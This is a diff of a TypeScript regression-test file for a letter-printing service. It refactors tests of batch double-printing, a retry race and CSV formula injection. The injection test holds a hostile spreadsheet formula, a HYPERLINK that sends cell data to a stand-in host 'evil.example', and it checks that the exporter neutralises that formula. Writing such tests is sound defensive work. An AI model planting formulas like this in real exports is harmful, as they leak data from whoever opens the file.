@@ -11,21 +11,30 @@ import { markFailed } from '@letters/production-worker/produce-letter'
 import { printsIn } from '@letters/test/support/floor-processes'
 import { ADMIN_TOKEN, terminateClientBackends } from '@letters/test/support/context'
 import { startProductionWorker } from '@letters/production-worker/worker'
-import { silentLog, startPipeline, type Pipeline } from '@letters/test/support/pipeline'
+import { silentLog, startPipeline, type Pipeline, type PipelineOptions } from '@letters/test/support/pipeline'
 import type { App } from '@letters/gateway/app'
 import { singleLetter } from '@letters/test/support/factories'
-import { it } from '@letters/test/support/fixtures'
+import { it as base } from '@letters/test/support/fixtures'
 import type { Account, PublicClient } from '@letters/test/support/gateway'
 
 const FLOOR_TOKEN = 'floor-token-redteam-0123456789'
+
+type StartOwnPipeline = (label: string, options?: Omit<PipelineOptions, 'label'>) => Promise<Pipeline>
+
+/** Starts a pipeline of the test's own (each fault test wants other options), closed once the test has finished. */
+const it = base.extend('startOwnPipeline', ({ onTestFinished }): StartOwnPipeline => {
+  return async (label, options = {}) => {
+    const pipeline = await startPipeline(label, options)
+    onTestFinished(() => pipeline.close())
+    return pipeline
+  }
+})
+
 // The held attacks' gateway: the floor open, and only five failed authentications per address.
 it.override({ gatewayOptions: { isolate: 'rt-floor', env: { FLOOR_TOKEN, AUTH_FAILURES_MAX: '5' } }, accountCredits: 200 })
 
-let pipeline: Pipeline | undefined
 let floorDir: string | undefined
 afterEach(async () => {
-  await pipeline?.close()
-  pipeline = undefined
   if (floorDir) await rm(floorDir, { recursive: true, force: true })
 })
 
@@ -34,10 +43,14 @@ afterEach(async () => {
  * the printer has them. With `secondWorker`, another production worker (its closer running every
  * 0.2 s) is there to take the batch over. Resolves with how often each file was printed.
  */
-async function dropWhileEnvelopesPrint(label: string, options: { secondWorker: boolean }): Promise<{ prints: number[]; handoffs: number }> {
+async function dropWhileEnvelopesPrint(
+  startOwnPipeline: StartOwnPipeline,
+  label: string,
+  options: { secondWorker: boolean },
+): Promise<{ prints: number[]; handoffs: number }> {
   floorDir = await mkdtemp(join(tmpdir(), `letters-${label}-`))
   const log = join(floorDir, 'prints.log')
-  pipeline = await startPipeline(label, {
+  const pipeline = await startOwnPipeline(label, {
     env: {
       PRINTER: 'batch',
       BATCH_MAX_LETTERS: '3',
@@ -48,7 +61,7 @@ async function dropWhileEnvelopesPrint(label: string, options: { secondWorker: b
   const second = options.secondWorker ? startProductionWorker({ config: pipeline.config, db: pipeline.app.db, log: silentLog }) : undefined
   try {
     const db = pipeline.app.db
-    await Promise.all([0, 1, 2].map((n) => pipeline!.send({ name: `Cliente ${n}` })))
+    await Promise.all([0, 1, 2].map((n) => pipeline.send({ name: `Cliente ${n}` })))
     await expect.poll(async () => (await db.select().from(printBatchHandoffs)).length, { timeout: 40_000, interval: 20 }).toBe(1)
     await new Promise((resolve) => setTimeout(resolve, 300))
     expect(await terminateClientBackends(pipeline.config.databaseUrl)).toBeGreaterThan(0)
@@ -67,59 +80,73 @@ async function dropWhileEnvelopesPrint(label: string, options: { secondWorker: b
 }
 
 describe('fixed: a batch closer whose connection drops while the printer has a file printed it twice', () => {
-  it('prints each of the three files once when every backend is terminated while the envelopes are at the printer', { timeout: 60_000 }, async () => {
-    // The closer's next round comes 0.4 s after a failed one (BATCH_MAX_WAIT_MS / 10, doubled):
-    // before the fix it found the lock free and the envelopes unrecorded (their record's row went
-    // with the connection) and printed them again while the first print was still going.
-    await expect(dropWhileEnvelopesPrint('rtcloser', { secondWorker: false })).resolves.toEqual({ prints: [1, 1, 1], handoffs: 3 })
-  })
+  it(
+    'prints each of the three files once when every backend is terminated while the envelopes are at the printer',
+    { timeout: 60_000 },
+    async ({ startOwnPipeline }) => {
+      // The closer's next round comes 0.4 s after a failed one (BATCH_MAX_WAIT_MS / 10, doubled):
+      // before the fix it found the lock free and the envelopes unrecorded (their record's row went
+      // with the connection) and printed them again while the first print was still going.
+      await expect(dropWhileEnvelopesPrint(startOwnPipeline, 'rtcloser', { secondWorker: false })).resolves.toEqual({ prints: [1, 1, 1], handoffs: 3 })
+    },
+  )
 })
 
 describe('fixed: with a second worker, its closer took the batch over and printed the file again', () => {
-  it('prints each file once when the backends are terminated mid-print with two workers closing batches', { timeout: 60_000 }, async () => {
+  it('prints each file once when the backends are terminated mid-print with two workers closing batches', { timeout: 60_000 }, async ({ startOwnPipeline }) => {
     // Before the fix, the second worker's closer took the lock the first one lost with its
     // connection and printed the envelopes the printer still had.
-    await expect(dropWhileEnvelopesPrint('rtcloser2', { secondWorker: true })).resolves.toEqual({ prints: [1, 1, 1], handoffs: 3 })
+    await expect(dropWhileEnvelopesPrint(startOwnPipeline, 'rtcloser2', { secondWorker: true })).resolves.toEqual({ prints: [1, 1, 1], handoffs: 3 })
   })
 })
 
 describe('fixed: a recipient name starting with = was a formula in the manifest the floor opens in Excel', () => {
-  it('writes client text that Excel would run (= + - @) with a leading apostrophe, and nothing else changed', { timeout: 60_000 }, async () => {
-    pipeline = await startPipeline('rtmanifest', { env: { PRINTER: 'batch', BATCH_MAX_LETTERS: '3', BATCH_MAX_WAIT_MS: '60000' } })
-    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Pulsa aquí")'
-    const names = [formula, '@sum(1+1)', 'Lucía']
-    await Promise.all(names.map((name, n) => pipeline!.send({ name, surname: n === 2 ? '+34 600' : 'García' })))
-    const db = pipeline.app.db
-    await expect
-      .poll(async () => (await db.select({ status: printBatches.status }).from(printBatches)).map((b) => b.status), { timeout: 40_000, interval: 100 })
-      .toEqual(['handed'])
-    const [batch] = await db.select({ id: printBatches.id }).from(printBatches).where(eq(printBatches.status, 'handed'))
-    const csv = await readFile(join(pipeline.spoolDir, `batch-${batch!.id}.manifest.csv`))
-    const rows = parse<Record<string, string>>(csv, { bom: true, columns: true })
-    expect(rows.map((row) => row.name).sort()).toEqual([`'${formula} García`, "'@sum(1+1) García", 'Lucía +34 600'].sort())
-    for (const row of rows) for (const column of ['name', 'zip', 'city', 'province', 'country']) expect(row[column]).not.toMatch(/^[=+\-@\t\r]/)
-  })
+  it(
+    'writes client text that Excel would run (= + - @) with a leading apostrophe, and nothing else changed',
+    { timeout: 60_000 },
+    async ({ startOwnPipeline }) => {
+      const pipeline = await startOwnPipeline('rtmanifest', { env: { PRINTER: 'batch', BATCH_MAX_LETTERS: '3', BATCH_MAX_WAIT_MS: '60000' } })
+      const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Pulsa aquí")'
+      const names = [formula, '@sum(1+1)', 'Lucía']
+      await Promise.all(names.map((name, n) => pipeline.send({ name, surname: n === 2 ? '+34 600' : 'García' })))
+      const db = pipeline.app.db
+      await expect
+        .poll(async () => (await db.select({ status: printBatches.status }).from(printBatches)).map((b) => b.status), { timeout: 40_000, interval: 100 })
+        .toEqual(['handed'])
+      const [batch] = await db.select({ id: printBatches.id }).from(printBatches).where(eq(printBatches.status, 'handed'))
+      const csv = await readFile(join(pipeline.spoolDir, `batch-${batch!.id}.manifest.csv`))
+      const rows = parse<Record<string, string>>(csv, { bom: true, columns: true })
+      expect(rows.map((row) => row.name).sort()).toEqual([`'${formula} García`, "'@sum(1+1) García", 'Lucía +34 600'].sort())
+      for (const row of rows) for (const column of ['name', 'zip', 'city', 'province', 'country']) expect(row[column]).not.toMatch(/^[=+\-@\t\r]/)
+    },
+  )
 })
 
 describe('fixed: an ops retry of a failed letter waiting in a tray stranded it in ready_for_print, cancellable, though its batch printed it', () => {
-  it('leaves the batched letter to its batch: not cancellable, and printed when the batch is handed over', { timeout: 60_000 }, async () => {
-    pipeline = await startPipeline('rtretry', { env: { PRINTER: 'batch', BATCH_MAX_LETTERS: '2', BATCH_MAX_WAIT_MS: '60000' } })
-    const db = pipeline.app.db
-    const first = await pipeline.send({ name: 'Primera' })
-    await expect.poll(async () => (await db.select().from(printBatchLetters).where(eq(printBatchLetters.letterId, first))).length, { timeout: 30_000 }).toBe(1)
-    // Its job given up on while it waits in the tray (a worker killed too often: markFailed with any claim).
-    expect(await markFailed(db, first, 3, 'any')).toBe(true)
-    const retried = await pipeline.admin('POST', `/admin/cards/${first}/retry`)
-    expect(retried.statusCode, retried.body).toBe(200)
-    // Its card is in the batch: the client can no longer cancel it (and get its credits back).
-    const cancel = await pipeline.client('DELETE', `/cards/${first}`)
-    expect(cancel.statusCode, cancel.body).toBe(409)
-    await pipeline.send({ name: 'Segunda' })
-    await expect
-      .poll(async () => (await db.select({ status: printBatches.status }).from(printBatches)).map((b) => b.status), { timeout: 30_000, interval: 100 })
-      .toEqual(['handed'])
-    await expect.poll(async () => (await pipeline!.card(first)).status, { timeout: 10_000 }).toBe('printed')
-  })
+  it(
+    'leaves the batched letter to its batch: not cancellable, and printed when the batch is handed over',
+    { timeout: 60_000 },
+    async ({ startOwnPipeline }) => {
+      const pipeline = await startOwnPipeline('rtretry', { env: { PRINTER: 'batch', BATCH_MAX_LETTERS: '2', BATCH_MAX_WAIT_MS: '60000' } })
+      const db = pipeline.app.db
+      const first = await pipeline.send({ name: 'Primera' })
+      await expect
+        .poll(async () => (await db.select().from(printBatchLetters).where(eq(printBatchLetters.letterId, first))).length, { timeout: 30_000 })
+        .toBe(1)
+      // Its job given up on while it waits in the tray (a worker killed too often: markFailed with any claim).
+      expect(await markFailed(db, first, 3, 'any')).toBe(true)
+      const retried = await pipeline.admin('POST', `/admin/cards/${first}/retry`)
+      expect(retried.statusCode, retried.body).toBe(200)
+      // Its card is in the batch: the client can no longer cancel it (and get its credits back).
+      const cancel = await pipeline.client('DELETE', `/cards/${first}`)
+      expect(cancel.statusCode, cancel.body).toBe(409)
+      await pipeline.send({ name: 'Segunda' })
+      await expect
+        .poll(async () => (await db.select({ status: printBatches.status }).from(printBatches)).map((b) => b.status), { timeout: 30_000, interval: 100 })
+        .toEqual(['handed'])
+      await expect.poll(async () => (await pipeline.card(first)).status, { timeout: 10_000 }).toBe('printed')
+    },
+  )
 })
 
 describe('held: hostile input, tokens and markup on /floor', () => {
